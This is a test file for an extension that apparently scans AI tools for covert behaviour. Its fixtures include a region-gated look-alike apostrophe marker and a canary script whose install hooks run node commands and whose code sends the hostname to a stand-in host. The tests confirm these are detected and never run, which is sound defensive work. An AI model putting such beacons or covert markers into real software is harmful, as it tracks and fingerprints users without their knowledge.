/**
 * Candor's editor experience in a real extension host: the tree against a fixture tool, commands,
 * the readable view with its decorations and hover, the cache, cancellation and reviews.
 * State is read through the API `activate()` returns, not through the UI.
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as vscode from 'vscode';
import type { Finding, Report } from '../../src/core/model';
import type { CandorApi } from '../../src/extension/extension';
import type { ToolsNode } from '../../src/extension/tree';

/** The repository (this file runs from out/test/extension/). */
const REPO_ROOT_FOR_TESTS = path.resolve(__dirname, '..', '..', '..');

const EXTENSION_ID = 'candor.candor';

/** A CLI that checks the time zone against a list of zones and picks a look-alike apostrophe. */
const FIXTURE_JS = [
  'const ZONES = ["Asia/Shanghai", "Asia/Urumqi", "Asia/Chongqing"];',
  'function isRegion() {',
  '  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;',
  '  return ZONES.includes(tz);',
  '}',
  'function todayLine() {',
  '  const d = new Date().toISOString().slice(0, 10);',
  '  return isRegion() ? "Today\\u2019s date is " + d : "Today\'s date is " + d;',
  '}',
  'module.exports = { todayLine, proxy: process.env.HTTPS_PROXY };',
  '',
].join('\n');

async function until(condition: () => boolean, ms: number, what: string): Promise<void> {
  const end = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > end) throw new Error(`timed out after ${ms / 1000}s waiting until ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

function span(text: string, needle: string) {
  const offset = text.indexOf(needle);
  assert.ok(offset >= 0, needle);
  const before = text.slice(0, offset).split('\n');
  return { offset, endOffset: offset + needle.length, line: before.length, column: before[before.length - 1].length + 1 };
}

/**
 * Runs `body` with the workspace's .candor/reviews.json (skipped without a folder on disk), and puts
 * the file back as it was afterwards.
 */
async function withWorkspaceReviews(test: Mocha.Context, body: (file: string) => Promise<void>): Promise<void> {
  const folder = vscode.workspace.workspaceFolders?.[0];
  if (!folder || folder.uri.scheme !== 'file') test.skip();
  const file = path.join(folder!.uri.fsPath, '.candor', 'reviews.json');
  const before = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined;
  try {
    await body(file);
  } finally {
    if (before === undefined) fs.rmSync(path.dirname(file), { recursive: true, force: true });
    else fs.writeFileSync(file, before);
  }
}

/** The finding the engine should report for the fixture; used when this build's engine reports none yet. */
function syntheticReport(file: string, base: Report): Report {
  const loc = (needle: string) => ({ path: file, ...span(FIXTURE_JS, needle) });
  const finding: Finding = {
    ruleId: 'env-gated-behavior',
    category: 'gating',
    severity: 'high',
    confidence: 'high',
    message: 'The time zone is compared with a list of zones and chooses the prompt text',
    location: loc('ZONES.includes(tz)'),
    values: ['Asia/Shanghai', 'Asia/Urumqi', 'Asia/Chongqing'],
    trace: [
      { role: 'source', location: loc('Intl.DateTimeFormat().resolvedOptions().timeZone'), note: 'reads the time zone' },
      { role: 'condition', location: loc('ZONES.includes(tz)'), note: 'compared with 3 zones' },
      { role: 'effect', location: loc('"Today\\u2019s date is "'), note: 'chooses a look-alike apostrophe' },
    ],
    fingerprint: 'synthetic-tz-gate',
  };
  return { ...base, findings: [finding], inventory: { ...base.inventory, timeZone: true } };
}

describe('Candor editor experience', function () {
  this.timeout(120_000);
  let api: CandorApi;
  let root: string;
  let toolDir: string;
  let manyDir: string;
  let toolId: string;

  before(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'candor-ext-'));
    toolDir = path.join(root, 'tz-tool');
    fs.mkdirSync(toolDir);
    fs.writeFileSync(path.join(toolDir, 'cli.js'), FIXTURE_JS);
    manyDir = path.join(root, 'many');
    fs.mkdirSync(manyDir);
    // Enough distinct files that a scan is still running when it is cancelled.
    for (let i = 0; i < 150; i++) fs.writeFileSync(path.join(manyDir, `m${i}.js`), `// file ${i}\n` + 'function f(){return process.env.HOME}\n'.repeat(400 + i));
    const ext = vscode.extensions.getExtension(EXTENSION_ID);
    assert.ok(ext);
    api = (await ext.activate()) as CandorApi;
    assert.ok(api?.scanService, 'activate() returns the services');
    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir], vscode.ConfigurationTarget.Global);
    // The settings change schedules a re-scan of its own; let it pass so it cannot replace later state.
    await new Promise((r) => setTimeout(r, 500));
    await api.scanService.whenIdle();
    await api.scanService.clearStorage();
  });

  after(async () => {
    await vscode.workspace.getConfiguration('candor').update('extraPaths', undefined, vscode.ConfigurationTarget.Global);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('scans from the command and lists the fixture tool in the tree', async () => {
    await vscode.commands.executeCommand('candor.scan');
    const s = api.scanService;
    assert.ok(s.scanned);
    const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === toolDir);
    assert.ok(entry, `fixture tool not found among: ${s.tools.map((e) => e.tool.identity.installPath).join(', ')}`);
    assert.strictEqual(entry.status, 'done');
    assert.ok(entry.report);
    toolId = entry.id;
    const roots = api.tree.getChildren();
    const node = roots.find((n) => n.toolId === toolId);
    assert.ok(node, 'the tool is a root of the AI Tools tree');
    const item = api.tree.getTreeItem(node);
    assert.match(String(item.label), /tz-tool/);
    assert.match(String(item.description), /path/);
    assert.strictEqual(item.contextValue?.startsWith('candor.tool'), true);
    assert.match(api.statusBar.text, /Candor: \d+ tools? · \d+ alerts?/);
  });

  it('shows alerts and capability groups under the tool', async function () {
    const e = api.scanService.tool(toolId)!;
    const engineAlerts = e.report!.findings.filter((f) => f.ruleId === 'env-gated-behavior' || f.ruleId === 'covert-marker');
    if (!engineAlerts.length) {
      console.log('      (this build\'s engine reports no alert for the fixture yet: showing the expected finding instead)');
      api.scanService.adoptReport(toolId, syntheticReport(path.join(toolDir, 'cli.js'), e.report!));
    }
    const children = api.tree.getChildren(api.tree.toolNode(toolId));
    const kinds = children.map((c) => (c.kind === 'group' ? `group:${c.groupId}` : c.kind));
    assert.ok(kinds.includes('alerts'), `children: ${kinds.join(', ')}`);
    assert.ok(kinds.includes('group:locale'), `children: ${kinds.join(', ')}`);
    const alertsNode = children.find((c) => c.kind === 'alerts')!;
    const alerts = api.tree.getChildren(alertsNode) as Extract<ToolsNode, { kind: 'alert' }>[];
    assert.ok(alerts.length >= 1);
    const item = api.tree.getTreeItem(alerts[0]);
    assert.strictEqual(item.contextValue, 'candor.alert');
    assert.strictEqual(item.command?.command, 'candor.showReadable');
    const tooltip = item.tooltip as vscode.MarkdownString;
    assert.strictEqual(tooltip.isTrusted, false);
    assert.strictEqual(tooltip.supportHtml, false);
    // The risk comes first: the end of a row is what a narrow sidebar cuts.
    assert.match(String(api.tree.getTreeItem(api.tree.toolNode(toolId)).description), /^(critical|high|medium|low) risk · /);
  });

  it('opens the trust panel for the tool with identity, verdict, alerts and checklist', async () => {
    await vscode.commands.executeCommand('candor.openTrustPanel', toolId);
    const state = await api.panel.push();
    assert.strictEqual(state.tool?.id, toolId);
    assert.ok(state.tool.verdict.length > 0);
    assert.ok(state.tool.alerts.length >= 1);
    assert.ok(state.tool.alerts[0].steps.length >= 1);
    assert.ok(state.tool.installPath.includes('tz-tool'));
    assert.ok(state.tool.checklist && state.tool.checklist.length === 10, 'the disclosure checklist');
  });

  it('opens a trust report in the editor area for one tool, once, and restores it after a reload', async () => {
    const report = (await vscode.commands.executeCommand('candor.openTrustReport', toolId)) as { toolId: string; panel: vscode.WebviewPanel; lastState?: { layout?: string; tool?: { id: string; alerts: unknown[]; checklist?: unknown[] } } } | undefined;
    assert.ok(report, 'the command returns the report');
    assert.strictEqual(report.panel.viewType, 'candor.trustReport');
    assert.match(report.panel.title, /^Trust Report — /);
    assert.strictEqual(report.lastState?.layout, 'report');
    assert.strictEqual(report.lastState?.tool?.id, toolId);
    assert.ok(report.lastState.tool.alerts.length >= 1 && report.lastState.tool.checklist?.length === 10, 'alerts and checklist');
    // Opening it again shows the same report; the sidebar panel is unaffected.
    assert.strictEqual(await vscode.commands.executeCommand('candor.openTrustReport', toolId), report);
    assert.strictEqual(api.reports.get(toolId), report);
    // After a reload VS Code hands the panel back with the state its page saved.
    const restored = vscode.window.createWebviewPanel('candor.trustReport', 'restoring', vscode.ViewColumn.Active, {});
    await api.reports.restore(restored, { toolId });
    assert.strictEqual(api.reports.get(toolId)?.panel, restored);
    const bogus = vscode.window.createWebviewPanel('candor.trustReport', 'bogus', vscode.ViewColumn.Active, {});
    let gone = false;
    bogus.onDidDispose(() => (gone = true));
    await api.reports.restore(bogus, { toolId: 42 });
    assert.ok(gone, 'a page state without a tool id is refused');
    report.panel.dispose();
    restored.dispose();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');

    // The status bar's hover lists the tool with its alerts, a link that opens this report; only
    // Candor's own commands may run from it.
    const tip = api.statusBar.item.tooltip as vscode.MarkdownString;
    assert.ok(tip instanceof vscode.MarkdownString, 'a rich hover');
    assert.ok(tip.value.includes(`](command:candor.openTrustReport?${encodeURIComponent(JSON.stringify([toolId]))} "Open its Trust Report")`), tip.value);
    assert.match(tip.value.replace(/&nbsp;/g, ' '), /\[tz\\-tool\]\(command:[^)]*\) high risk · 1 alert/);
    assert.deepStrictEqual(tip.isTrusted, { enabledCommands: ['candor.openTrustReport', 'workbench.view.extension.candor'] });
  });

  it('exports the tool as Markdown, SARIF and CycloneDX', async () => {
    for (const [format, file, check] of [
      ['markdown', 'r.md', (t: string) => assert.match(t, /tz-tool/)],
      ['sarif', 'r.sarif', (t: string) => assert.strictEqual(JSON.parse(t).version, '2.1.0')],
      ['cyclonedx', 'r.cdx.json', (t: string) => assert.strictEqual(JSON.parse(t).bomFormat, 'CycloneDX')],
      ['json', 'r.json', (t: string) => assert.ok(JSON.parse(t))],
    ] as const) {
      const target = path.join(root, file);
      const written = await vscode.commands.executeCommand('candor.export', toolId, format, target);
      assert.strictEqual(written, target);
      check(fs.readFileSync(target, 'utf8'));
    }
  });

  it('rejects page messages with unknown types or ids', async () => {
    const before = api.panel.rejected;
    assert.strictEqual(await api.panel.handleMessage({ type: 'runCommand', command: 'workbench.action.terminal.new' }), false);
    assert.strictEqual(await api.panel.handleMessage({ type: 'rescan', toolId: 'no-such-tool' }), false);
    assert.strictEqual(await api.panel.handleMessage({ type: 'openStep', toolId, fingerprint: 'nope', occurrence: 0, step: 0 }), false);
    assert.strictEqual(api.panel.rejected, before + 3);
  });

  it('opens the readable view with decorated steps, a hover and "Reveal in original"', async () => {
    const alert = api.panel.lastState!.tool!.alerts[0];
    const ref = { toolId, fingerprint: alert.fingerprint, occurrence: alert.occurrence };
    const f = api.scanService.findFinding(toolId, alert.fingerprint, alert.occurrence)!.finding;
    const editor = (await vscode.commands.executeCommand('candor.showReadable', ref)) as vscode.TextEditor;
    assert.ok(editor, 'showReadable returns the editor');
    assert.strictEqual(editor.document.uri.scheme, 'candor-readable');
    // A short tab title, `<tool> — <rule>`, and a header no wider than a default editor.
    assert.strictEqual(path.posix.basename(editor.document.uri.path), `${api.scanService.tool(toolId)!.tool.identity.name} — ${f.ruleId}`);
    assert.strictEqual(editor.document.languageId, 'candor-js');
    const header = editor.document.getText().split('\n').filter((l) => l.startsWith('//'));
    assert.deepStrictEqual(header.filter((l) => l.length > 100), [], 'header lines wrap at 100 columns');
    const model = api.readable.model(editor.document.uri);
    assert.ok(model, 'a readable model');
    assert.ok(model.steps.length >= 1);
    assert.match(model.text, /function isRegion\(\) \{/);
    const key = editor.document.uri.toString();
    await until(() => {
      const c = api.decorations.applied.get(key);
      return !!c && c.source + c.condition + c.effect + c.transform > 0;
    }, 10_000, 'the readable view is decorated');
    const counts = api.decorations.applied.get(key)!;
    assert.ok(counts.source >= 1, JSON.stringify(counts));

    const step = model.steps[0];
    const hovers = (await vscode.commands.executeCommand('vscode.executeHoverProvider', editor.document.uri, editor.document.positionAt(step.start + 1))) as vscode.Hover[];
    const text = hovers.flatMap((h) => h.contents.map((c) => (typeof c === 'string' ? c : 'value' in c ? c.value : ''))).join('\n');
    assert.match(text, /Candor: /);
    assert.match(text, /Why it matters/);

    const lenses = (await vscode.commands.executeCommand('vscode.executeCodeLensProvider', editor.document.uri)) as vscode.CodeLens[];
    assert.ok(lenses.some((l) => l.command?.title === 'Reveal in original'));

    const original = (await vscode.commands.executeCommand('candor.revealInOriginal', ref, 0)) as vscode.TextEditor;
    assert.strictEqual(original.document.uri.fsPath, path.join(toolDir, 'cli.js'));
    assert.strictEqual(original.document.offsetAt(original.selection.start), f.trace[0].location.offset);
    assert.strictEqual(original.document.offsetAt(original.selection.end), f.trace[0].location.endOffset);
    await until(() => (api.decorations.applied.get(original.document.uri.toString())?.source ?? 0) >= 1, 10_000, 'the original file is decorated');
    const origHover = (await vscode.commands.executeCommand('vscode.executeHoverProvider', original.document.uri, original.document.positionAt(f.trace[0].location.offset + 1))) as vscode.Hover[];
    assert.ok(origHover.length >= 1, 'a hover in the original file');
  });

  it('draws a step over several lines as one block, and a step on one line as a box', async () => {
    const e = api.scanService.tool(toolId)!;
    const kept = e.report!;
    const file = path.join(toolDir, 'cli.js');
    const base = syntheticReport(file, kept);
    // The effect is the whole of todayLine(): three lines, from "function" to its closing brace.
    const body = FIXTURE_JS.slice(FIXTURE_JS.indexOf('function todayLine'), FIXTURE_JS.indexOf('}', FIXTURE_JS.indexOf('return isRegion()')) + 1);
    const multi = { ...base.findings[0], fingerprint: 'synthetic-multi-line', trace: [base.findings[0].trace[0], base.findings[0].trace[1], { role: 'effect' as const, location: { path: file, ...span(FIXTURE_JS, body) }, note: 'the function that writes the line' }] };
    api.scanService.adoptReport(toolId, { ...base, findings: [multi] });
    try {
      const editor = await vscode.window.showTextDocument(vscode.Uri.file(file));
      const key = editor.document.uri.toString();
      api.decorations.decorate(editor);
      const first = editor.document.positionAt(FIXTURE_JS.indexOf('function todayLine')).line;
      assert.deepStrictEqual(api.decorations.blocks.get(key), [{ role: 'effect', startLine: first, endLine: first + 3 }], 'the effect is one block over its four lines');
      assert.deepStrictEqual(api.decorations.applied.get(key), { source: 1, transform: 0, condition: 1, effect: 1 });
    } finally {
      api.scanService.adoptReport(toolId, kept);
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    }
  });

  it('opens sources embedded in a VSIX read-only through candor-embedded', async () => {
    const yazl = require('yazl') as typeof import('yazl');
    const vsix = path.join(root, 'fake-ai.vsix');
    const inner = 'function f(){var t=Intl.DateTimeFormat().resolvedOptions().timeZone;return t==="Asia/Shanghai"}';
    await new Promise<void>((resolve, reject) => {
      const zip = new yazl.ZipFile();
      zip.addBuffer(Buffer.from(JSON.stringify({ name: 'fake-ai', publisher: 'acme', version: '1.0.0', engines: { vscode: '^1.90.0' } })), 'extension/package.json');
      zip.addBuffer(Buffer.from(inner), 'extension/dist/extension.js');
      zip.outputStream.pipe(fs.createWriteStream(vsix)).on('close', () => resolve()).on('error', reject);
      zip.end();
    });
    const entry = await api.scanService.scanPath(vsix);
    assert.ok(entry?.report);
    const virtual = `${vsix}!/extension/dist/extension.js`;
    const loc = (needle: string) => ({ path: virtual, ...span(inner, needle) });
    const finding: Finding = {
      ruleId: 'env-gated-behavior', category: 'gating', severity: 'high', confidence: 'medium', message: 'time zone compared with a zone',
      location: loc('t==="Asia/Shanghai"'), values: ['Asia/Shanghai'], fingerprint: 'synthetic-embedded',
      trace: [{ role: 'source', location: loc('Intl.DateTimeFormat().resolvedOptions().timeZone'), note: 'time zone' }, { role: 'condition', location: loc('t==="Asia/Shanghai"'), note: 'one zone' }],
    };
    api.scanService.adoptReport(entry.id, { ...entry.report, findings: [finding] });
    const ref = { toolId: entry.id, fingerprint: 'synthetic-embedded', occurrence: 0 };
    const readable = (await vscode.commands.executeCommand('candor.showReadable', ref)) as vscode.TextEditor;
    assert.match(api.readable.model(readable.document.uri)!.text, /t === "Asia\/Shanghai"/);
    const original = (await vscode.commands.executeCommand('candor.revealInOriginal', ref, 1)) as vscode.TextEditor;
    assert.strictEqual(original.document.uri.scheme, 'candor-embedded');
    assert.strictEqual(original.document.uri.path, virtual);
    assert.strictEqual(original.document.getText(), inner);
    assert.strictEqual(original.document.offsetAt(original.selection.start), finding.trace[1].location.offset);
    await assert.rejects(Promise.resolve(vscode.workspace.fs.writeFile(original.document.uri, Buffer.from('x'))));
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('puts alerts in the Problems panel only when the setting is on', async () => {
    const file = vscode.Uri.file(path.join(toolDir, 'cli.js'));
    const config = vscode.workspace.getConfiguration('candor');
    assert.strictEqual(api.diagnostics.collection.get(file)?.length ?? 0, 0, 'off by default');
    await config.update('diagnostics.enabled', true, vscode.ConfigurationTarget.Global);
    try {
      await until(() => (api.diagnostics.collection.get(file)?.length ?? 0) > 0, 10_000, 'diagnostics appear');
      const d = api.diagnostics.collection.get(file)![0];
      assert.strictEqual(d.source, 'Candor');
    } finally {
      await config.update('diagnostics.enabled', undefined, vscode.ConfigurationTarget.Global);
    }
    await until(() => (api.diagnostics.collection.get(file)?.length ?? 0) === 0, 10_000, 'diagnostics go away');
  });

  it('reads an unchanged tool back without opening its files, and a touched one from the result cache', async () => {
    const s = api.scanService;
    const before = s.tool(toolId)!.report!;
    await s.scanTool(toolId);
    let stats = s.lastStats!;
    assert.strictEqual(stats.toolsReused, 1, JSON.stringify(stats));
    assert.strictEqual(stats.files, 0, 'no file of an unchanged tool is read');
    assert.deepStrictEqual(s.tool(toolId)!.report!.findings.map((f) => f.fingerprint), before.findings.map((f) => f.fingerprint));
    // A file whose time changed (not its content) is read again, and its result comes from the cache.
    const js = fs.readdirSync(toolDir, { recursive: true, encoding: 'utf8' }).find((f) => f.endsWith('.js'))!;
    const now = new Date();
    fs.utimesSync(path.join(toolDir, js), now, now);
    await s.scanTool(toolId);
    stats = s.lastStats!;
    assert.strictEqual(stats.toolsReused, 0);
    assert.ok(stats.files >= 1);
    assert.strictEqual(stats.cacheMisses, 0, JSON.stringify(stats));
    assert.strictEqual(stats.cacheHits, stats.files);
  });

  it('cancels a running scan without crashing and drops partial results', async () => {
    const s = api.scanService;
    const entry = await (async () => {
      const p = s.scanPath(manyDir);
      await until(() => s.scanning && (s.lastStats?.files ?? 0) >= 2, 30_000, 'the scan is under way');
      s.cancel();
      return p;
    })();
    assert.ok(s.lastStats?.cancelled, 'the scan says it was cancelled');
    assert.strictEqual(s.scanning, false);
    assert.ok(entry);
    assert.strictEqual(entry.status, 'cancelled');
    assert.strictEqual(entry.report, undefined, 'no half report');
    assert.ok(s.tools.every((e) => e.status !== 'scanning'));
    // Scanning still works afterwards.
    await s.scanTool(toolId);
    assert.strictEqual(s.tool(toolId)!.status, 'done');
  });

  it('says once when an updated tool has new alerts, and compares the versions', async function () {
    const s = api.scanService;
    const dir = path.join(root, 'upd-tool');
    fs.mkdirSync(dir);
    const write = (version: string, code: string) => {
      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'candor-upd-fixture', displayName: 'Update Fixture', version }));
      fs.writeFileSync(path.join(dir, 'cli.js'), code);
    };
    write('0.24.4', 'module.exports = () => new Date().toLocaleDateString();\n');
    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir, dir], vscode.ConfigurationTarget.Global);
    await new Promise((r) => setTimeout(r, 300));
    await s.whenIdle();
    await s.scanAll({ silent: true });
    const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === dir);
    assert.ok(entry, 'the second fixture is listed');
    const notices: string[] = [];
    const sub = s.onDidDetectUpdate((u) => notices.push(u.message));
    try {
      write('0.25.0', FIXTURE_JS);
      await s.scanAll({ silent: true });
      const after = s.tool(entry.id)!;
      if (!after.report!.findings.some((f) => f.ruleId === 'env-gated-behavior')) {
        console.log("      (this build's engine reports no alert for the fixture: nothing to announce)");
        this.skip();
      }
      assert.strictEqual(notices.length, 1, notices.join('\n'));
      assert.match(notices[0], /^Update Fixture 0\.24\.4 → 0\.25\.0: \d+ new alerts?$/);
      assert.ok(after.previous, 'the previous report is kept');
      const md = (await vscode.commands.executeCommand('candor.compare', entry.id)) as string;
      // Markdown escapes the dots.
      assert.match(md, /0\\?\.24\\?\.4.*→.*0\\?\.25\\?\.0/);
      assert.match(md, /new/);
      // Scanning again without a change says nothing new.
      await s.scanAll({ silent: true });
      assert.strictEqual(notices.length, 1);
    } finally {
      sub.dispose();
      await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir], vscode.ConfigurationTarget.Global);
      await new Promise((r) => setTimeout(r, 300));
      await s.whenIdle();
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    }
  });

  /** Scans with `paths` added to candor.extraPaths, then puts the setting and the trust panel back as they were. */
  async function withExtraPaths(paths: string[], body: () => Promise<void>): Promise<void> {
    const s = api.scanService;
    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir, ...paths], vscode.ConfigurationTarget.Global);
    try {
      await new Promise((r) => setTimeout(r, 300));
      await s.whenIdle();
      await s.scanAll({ silent: true });
      await body();
    } finally {
      await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir], vscode.ConfigurationTarget.Global);
      await new Promise((r) => setTimeout(r, 300));
      await s.whenIdle();
      await vscode.commands.executeCommand('candor.openTrustPanel', toolId);
    }
  }

  it("sets a catalog tool's code against its vendor's record in the trust panel: undocumented variables first, with where each is read", async () => {
    const s = api.scanService;
    const dir = path.join(root, 'qoder-tool');
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '@qoder-ai/qodercli', version: '1.1.52', bin: { qodercli: 'cli.js' } }));
    fs.writeFileSync(path.join(dir, 'cli.js'), "const token = process.env.QODER_PERSONAL_ACCESS_TOKEN;\nconst hook = process.env.QODER_TELEMETRY_HOOK_SECRET;\nmodule.exports = { token, hook };\n");
    await withExtraPaths([dir], async () => {
      const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === dir);
      assert.ok(entry, 'the tool is listed');
      await vscode.commands.executeCommand('candor.openTrustPanel', entry.id);
      const state = await api.panel.push();
      const env = state.tool!.checklist!.find((i) => i.id === 'env-vars')!;
      assert.strictEqual(env.disclosure, 'undocumented');
      assert.deepStrictEqual(env.undocumented, [{ value: 'QODER_TELEMETRY_HOOK_SECRET', where: 'qoder-tool/cli.js:2' }]);
      assert.strictEqual(env.documentedCount, 1, 'the documented token is counted, not listed');
    });
  });

  it('scans a canary tool in every form (folder, .tgz, .vsix, Bun and Node SEA builds) without running its code, install scripts or launcher', async function () {
    this.timeout(10 * 60 * 1000);
    const s = api.scanService;
    const dir = path.join(root, 'canary-tool');
    const marker = path.join(root, 'CANARY-EXECUTED');
    const run = `node -e "require('fs').writeFileSync(process.argv[1], 'install script')" ${JSON.stringify(marker)}`;
    const code = `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(marker)}, "executed");\nfetch("https://canary.invalid/?h=" + require("os").hostname());\nmodule.exports = { activate() {} };\n`;
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'canary-ai-cli', version: '1.0.0', main: 'cli.js', bin: { canary: 'cli.js' }, scripts: { preinstall: run, install: run, postinstall: run, prepare: run, prepack: run } }));
    fs.writeFileSync(path.join(dir, 'cli.js'), code);
    fs.chmodSync(path.join(dir, 'cli.js'), 0o755);
    // The other forms, made with the same tools as the unit tests' (npm pack without scripts, yazl, bun, postject).
    // eslint-disable-next-line @typescript-eslint/no-var-requires
    const fixtures = require(path.join(REPO_ROOT_FOR_TESTS, 'out', 'test', 'support', 'host-fixtures.js')) as typeof import('../support/host-fixtures');
    const forms = path.join(root, 'canary-forms');
    fs.mkdirSync(forms);
    const tgz = fixtures.npmPack(dir, forms);
    const vsix = await fixtures.makeZip(path.join(forms, 'canary.vsix'), [
      { name: 'extension/package.json', data: JSON.stringify({ name: 'canary', publisher: 'acme', version: '1.0.0', main: './extension.js', engines: { vscode: '^1.90.0' } }) },
      { name: 'extension/extension.js', data: code },
    ]);
    const bun = fixtures.buildBunExecutable(forms, code, 'canary-bun');
    const sea = fixtures.buildSeaExecutable(forms, code, 'canary-sea');
    assert.ok(!fs.existsSync(marker), 'making the forms ran nothing');
    const targets = [dir, tgz, vsix, bun, sea];
    await withExtraPaths(targets, async () => {
      for (const t of targets) {
        const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === t);
        assert.ok(entry?.report?.findings.some((f) => f.ruleId === 'host-identity-sent'), `the canary was read as ${path.basename(t)}`);
      }
      assert.ok(!fs.existsSync(marker), 'and never run');
    });
  });

  it('records a review made in the panel in .candor/reviews.json', async function () {
    await withWorkspaceReviews(this, async (file) => {
      const note = `checked with the vendor ${Date.now()}`;
      const ok = await api.panel.handleMessage({ type: 'review', toolId, itemId: 'locale', state: 'needs-info', note });
      assert.strictEqual(ok, true);
      const saved = JSON.parse(fs.readFileSync(file, 'utf8'));
      const review = saved.reviews.find((r: { tool: { id: string } }) => r.tool.id === toolId);
      assert.ok(review, 'the tool has a review');
      assert.strictEqual(review.items.locale.state, 'needs-info');
      assert.strictEqual(review.items.locale.note, note);
      const state = api.panel.lastState!;
      assert.strictEqual(state.tool!.checklist!.find((i) => i.id === 'locale')!.review?.state, 'needs-info');
    });
  });

  it('records a decision on one alert, shows it in the tree and the panel, and lets it lapse', async function () {
    await withWorkspaceReviews(this, async (file) => {
      await vscode.commands.executeCommand('candor.openTrustPanel', toolId);
      const alert = (await api.panel.push()).tool!.alerts[0];
      // The page's messages are checked: a bad date or an unknown state is refused.
      assert.strictEqual(await api.panel.handleMessage({ type: 'decideAlert', toolId, fingerprint: alert.fingerprint, state: 'ignore', reason: 'x', expires: '' }), false);
      assert.strictEqual(await api.panel.handleMessage({ type: 'decideAlert', toolId, fingerprint: alert.fingerprint, state: 'accepted', reason: 'x', expires: 'tomorrow' }), false);
      assert.strictEqual(await api.panel.handleMessage({ type: 'decideAlert', toolId, fingerprint: 'not-an-alert', state: 'accepted', reason: 'x', expires: '' }), false);

      const ok = await api.panel.handleMessage({ type: 'decideAlert', toolId, fingerprint: alert.fingerprint, state: 'false-positive', reason: 'the list is a UI translation table', expires: '2999-12-31' });
      assert.strictEqual(ok, true);
      const saved = JSON.parse(fs.readFileSync(file, 'utf8'));
      const d = saved.alerts.find((a: { fingerprint: string }) => a.fingerprint === alert.fingerprint);
      assert.deepStrictEqual([d.state, d.reason, d.expires, d.tool.id], ['false-positive', 'the list is a UI translation table', '2999-12-31', toolId]);
      assert.strictEqual(d.tool.contentHash, api.scanService.tool(toolId)!.report!.tool!.contentHash, 'pinned to the tool content');
      assert.strictEqual(api.panel.lastState!.tool!.alerts[0].decision?.status, 'current');
      const alertsNode = (api.tree.getChildren(api.tree.toolNode(toolId)) as ToolsNode[]).find((c) => c.kind === 'alerts')!;
      const first = (api.tree.getChildren(alertsNode) as ToolsNode[])[0];
      await until(() => /^false positive · /.test(String(api.tree.getTreeItem(first).description)), 5_000, 'the tree shows the decision');

      // A decision past its last day lapses: the alert is open again.
      saved.alerts[0].expires = '2000-01-01';
      fs.writeFileSync(file, JSON.stringify(saved));
      assert.strictEqual((await api.panel.push()).tool!.alerts[0].decision?.status, 'expired');
      assert.strictEqual(await api.panel.handleMessage({ type: 'decideAlert', toolId, fingerprint: alert.fingerprint, state: 'clear', reason: '', expires: '' }), true);
      assert.deepStrictEqual(JSON.parse(fs.readFileSync(file, 'utf8')).alerts ?? [], []);
    });
  });
});
